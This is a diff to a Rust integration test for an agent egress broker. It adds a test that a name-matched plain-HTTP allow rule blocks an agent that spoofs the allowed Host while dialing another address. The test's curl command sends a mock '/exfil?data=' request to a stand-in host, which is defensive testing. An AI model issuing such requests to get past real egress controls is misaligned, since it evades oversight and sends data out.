@@ -23,7 +23,7 @@ use std::{
 };
 
 use agent_broker_tests::{
-    Alpn, TestCa, TestUpstream, UpstreamOptions,
+    Alpn, TestCa, TestServer, TestUpstream, UpstreamOptions,
     clients::{
         self, Call, ClientRun, HttpReport, Proto, SYSTEM_CA_PATH, SystemCaGuard, Trust,
         node_client, python_client, static_client_run,
@@ -657,4 +657,51 @@ fn upstream_echo_of_the_secret_is_scrubbed_from_headers_and_body() {
         );
     }
     w.assert_no_secret_in_logs();
+}
+
+/// A name-matched plain HTTP rule reaches only the name's own addresses: an agent that dials
+/// another address and names the allowed host in `Host` gets a 403, and the server at that
+/// address receives nothing (issue 12.2; brokerd's resolver, the test's own, gives the name
+/// 127.0.0.2 only).
+#[test]
+fn a_name_matched_plain_http_rule_reaches_only_the_names_addresses() {
+    let outside = TestServer::http("127.0.0.3:0", "outside");
+    let port = outside.addr().port();
+    let w = World::with_policies(|cg, _api| {
+        vec![(
+            "agent".into(),
+            format!(
+                "cgroup = \"{}\"\n[[allow]]\nhost = \"{OTHER}\"\nport = {port}\nplain_http = true\n",
+                cg.child("agent"),
+            ),
+        )]
+    });
+    let argv: Vec<String> = vec![
+        "curl".into(),
+        "-sS".into(),
+        "--noproxy".into(),
+        "*".into(),
+        "--max-time".into(),
+        "20".into(),
+        "--resolve".into(),
+        format!("{OTHER}:{port}:127.0.0.3"),
+        "-w".into(),
+        "%{stderr}ABTEST status=%{http_code}\\n".into(),
+        format!("http://{OTHER}:{port}/exfil?data=abtest"),
+    ];
+    let run = clients::run_in_cgroup(&w.broker, &w.agent, "curl (plain http)", &[], &argv);
+    let stderr = String::from_utf8_lossy(&run.output.stderr).into_owned();
+    assert!(stderr.contains("ABTEST status=403"), "{}", run.show());
+    let body = String::from_utf8_lossy(&run.output.stdout).into_owned();
+    assert!(
+        body.contains("nothing proves that 127.0.0.3 is other.example.test"),
+        "{}",
+        run.show()
+    );
+    std::thread::sleep(Duration::from_millis(200));
+    assert!(
+        outside.accepted().is_empty(),
+        "the address the name does not have was reached: {:?}",
+        outside.accepted()
+    );
 }
